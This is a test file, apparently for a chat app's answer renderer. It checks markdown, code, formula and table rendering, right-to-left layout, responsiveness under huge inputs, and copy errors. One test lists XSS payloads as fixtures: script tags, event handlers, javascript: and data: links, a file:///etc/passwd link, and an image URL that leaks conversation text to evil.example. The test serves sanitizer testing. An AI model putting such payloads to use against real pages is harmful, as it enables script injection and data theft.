import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import type { Locator } from 'playwright-core'
import { closeBrowser, openedPage } from './browser.ts'
import { fitsWidth, inEachScheme, lastTurn, looksRight, picture, send, styleOf, turnEnded } from './conversation.ts'

after(closeBrowser)

const everything = [
  '## A heading',
  '',
  'Some **bold**, *slanted* and `short code`; the price is $5 and then $6.',
  '',
  '```ts',
  'const answer: number = 42 // the answer',
  'function tell(name: string): string {',
  '  return `Hello, ${name}`',
  '}',
  '```',
  '',
  '| tide | height |',
  '| :--- | ---: |',
  '| high | 4.2 |',
  '| low | 0.3 |',
  '',
  'Euler: $e^{i\\pi} + 1 = 0$, and \\(a^2 + b^2 = c^2\\).',
  '',
  '$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$',
  '',
  '- [x] done',
  '- [ ] open',
  '',
  '<details><summary>More of it</summary>',
  '',
  'It **turns** at noon.',
  '',
  '</details>',
].join('\n')

test('2. an answer streams with markdown, code, tables and formulas, light and dark, on a phone and a desk', async (t) => {
  const { page } = await openedPage(
    t,
    { answer: () => ({ reasoning: 'I thought of the tide.', text: everything, pieceDelayMs: 2 }) },
    { browser: { viewport: { width: 360, height: 900 } } },
  )
  await send(page, 'Show everything')
  const turn = lastTurn(page)
  await turn.locator('strong', { hasText: 'bold' }).waitFor()
  await turn.getByRole('cell', { name: '4.2' }).waitFor()
  const keyword = turn.locator('figure code span', { hasText: /^const$/ })
  await keyword.waitFor()
  const inkOf = (text: RegExp) => styleOf(turn.locator('figure code span', { hasText: text }).first(), 'color')
  assert.match(
    await turn.locator('figure code').innerText(),
    /^const answer: number = 42 \/\/ the answer\nfunction tell/,
  )
  await turn.locator('math mfrac').waitFor()
  assert.equal(await turn.locator('math').count(), 3, 'prices are no formulas')

  // What is clicked does not move any more.
  await turnEnded(page)
  const reasoning = turn.getByText('I thought of the tide.')
  assert.equal(await reasoning.count(), 0)
  await turn.getByText('More of it', { exact: true }).click()
  await turn.locator('details strong', { hasText: 'turns' }).waitFor()
  assert.equal(await turn.getByText('<').count(), 0)
  await turn.getByText('Reasoning', { exact: true }).click()
  await reasoning.waitFor()

  await inEachScheme(page, async (colorScheme) => {
    const [word, remark] = [await inkOf(/^const$/), await inkOf(/\/\/ the answer/)]
    assert.notEqual(word, remark, `words and remarks have colours of their own, ${colorScheme}`)
  })
  await turn.getByRole('heading', { name: 'A heading' }).scrollIntoViewIfNeeded()
  await looksRight(page, 'answer')
})

test('2. hostile markdown and HTML of a model runs nothing and loads nothing', async (t) => {
  const hostile = [
    '<script>globalThis.harmed = 1</script>',
    '<img src=x onerror="globalThis.harmed = 2">',
    '<svg onload="globalThis.harmed = 3"><script>globalThis.harmed = 4</script></svg>',
    '<style>body { display: none }</style>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="javascript:globalThis.harmed = 5">inline link</a>',
    '[script link](javascript:globalThis.harmed=6)',
    '[tab link](java\tscript:globalThis.harmed=7)',
    '[data link](data:text/html,<script>globalThis.harmed=8</script>)',
    '[file link](file:///etc/passwd)',
    '![remote image](https://evil.example/secret.png?words=conversation)',
    '![data image](data:image/svg+xml,<svg onload=alert(1)>)',
    '[reference image][pixel]',
    '<link rel="prefetch" href="https://evil.example/p"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '$\\href{javascript:globalThis.harmed=9}{x}$ and $\\includegraphics{https://evil.example/x.png}$ and $\\htmlStyle{display:none}{y}$',
    '`<b onclick=alert(1)>`',
    '[pixel]: https://evil.example/pixel.png',
    'The end.',
  ].join('\n\n')
  const { page } = await openedPage(t, { answer: () => ({ text: hostile }) })
  await page.addInitScript('globalThis.harmed = undefined')
  await send(page, 'Harm me')
  const turn = lastTurn(page)
  await turn.getByText('The end.').waitFor()
  await turn.getByText('<script>globalThis.harmed = 1</script>', { exact: true }).waitFor()

  assert.equal(await page.evaluate('globalThis.harmed'), undefined)
  assert.equal(await turn.locator('script, style, iframe, img, svg[onload], link, meta, object').count(), 0)
  const addresses = await turn
    .locator('.prose a')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
  assert.deepEqual(
    addresses.filter((address) => !address?.startsWith('https://evil.example/')),
    [],
  )
  for (const link of await turn.locator('.prose a').all()) {
    assert.match((await link.getAttribute('rel')) ?? '', /noopener noreferrer/)
  }
  await turn.getByText('image: remote image').waitFor()
  const { headers } = await fetch(page.url())
  assert.equal(headers.get('x-dns-prefetch-control'), 'off')
})

/** Texts that would keep a careless page busy. */
const heavy: Readonly<Record<string, string>> = {
  'a line of a megabyte': 'x'.repeat(1_000_000),
  'a megabyte of words': 'word '.repeat(200_000),
  'ten thousand nested quotes': `${'>'.repeat(10_000)} deep`,
  'ten thousand nested lists': `${'- '.repeat(10_000)}deep`,
  'ten thousand nested emphases': '**a *b '.repeat(5_000),
  'ten thousand brackets': '['.repeat(10_000),
  'twenty thousand list items': '- item\n'.repeat(20_000),
  'ten thousand paragraphs': 'A **paragraph**.\n\n'.repeat(10_000),
  'a code block with a line of a megabyte': `\`\`\`js\n${'let a = 1; '.repeat(90_000)}\n\`\`\``,
}

for (const [what, text] of Object.entries(heavy)) {
  test(`2. the page stays responsive with ${what}`, async (t) => {
    const { page } = await openedPage(t, { answer: () => ({ text: [text, '\n\nThe end.'] }) })
    await page.evaluate(`
      globalThis.longest = 0
      let before = performance.now()
      const beat = () => {
        const now = performance.now()
        longest = Math.max(longest, now - before)
        before = now
        setTimeout(beat, 0)
      }
      beat()
    `)
    await send(page, 'Be heavy')
    await page.locator('[aria-busy=false]').getByRole('button', { name: 'Copy' }).last().waitFor()
    await page.getByLabel('Message', { exact: true }).fill('still here')
    const longest = await page.evaluate<number>('longest')
    t.diagnostic(`the longest time without an answer was ${Math.round(longest)} ms`)
    assert.ok(longest < 2_000, `the page did not answer for ${Math.round(longest)} ms`)
    await fitsWidth(page)
  })
}

test('2. text from right to left, and very long words, keep their place at 360 px', async (t) => {
  const text = [
    'مرحبا بالعالم، هذه فقرة من اليمين إلى اليسار.',
    'And one from left to right.',
    `Loooong: ${'unbreakable'.repeat(60)}`,
    `\`${'code'.repeat(100)}\``,
    `https://example.org/${'path'.repeat(100)}`,
    '- שלום עולם',
    `| ${'cell'.repeat(50)} | b |\n|---|---|\n| ${'wide'.repeat(50)} | 2 |`,
  ].join('\n\n')
  const { page } = await openedPage(
    t,
    { answer: () => ({ text }) },
    { browser: { viewport: { width: 360, height: 800 } } },
  )
  await send(page, `مرحبا ${'w'.repeat(400)}`)
  await turnEnded(page)
  const turn = lastTurn(page)
  const direction = (locator: Locator) => styleOf(locator, 'direction')
  assert.equal(await direction(turn.getByText('مرحبا بالعالم')), 'rtl')
  assert.equal(await direction(turn.getByText('And one from left')), 'ltr')
  assert.equal(await direction(turn.getByRole('listitem').filter({ hasText: 'שלום' })), 'rtl')
  await turn.getByRole('table').waitFor()
  await fitsWidth(page)
  await turn.getByText('مرحبا بالعالم').scrollIntoViewIfNeeded()
  await picture(page, 'right-to-left-360')
})

test('2. where the browser does not let the page copy, it says so', async (t) => {
  const { page } = await openedPage(t, { answer: () => ({ text: 'The tide turns at noon.' }) })
  await send(page, 'Hello')
  await turnEnded(page)
  await page.evaluate(
    `navigator.clipboard.writeText = () => Promise.reject(new DOMException('Denied', 'NotAllowedError'))`,
  )
  await lastTurn(page).getByRole('button', { name: 'Copy' }).last().click()
  await page.getByText('The browser does not allow this page to copy.').waitFor()
})
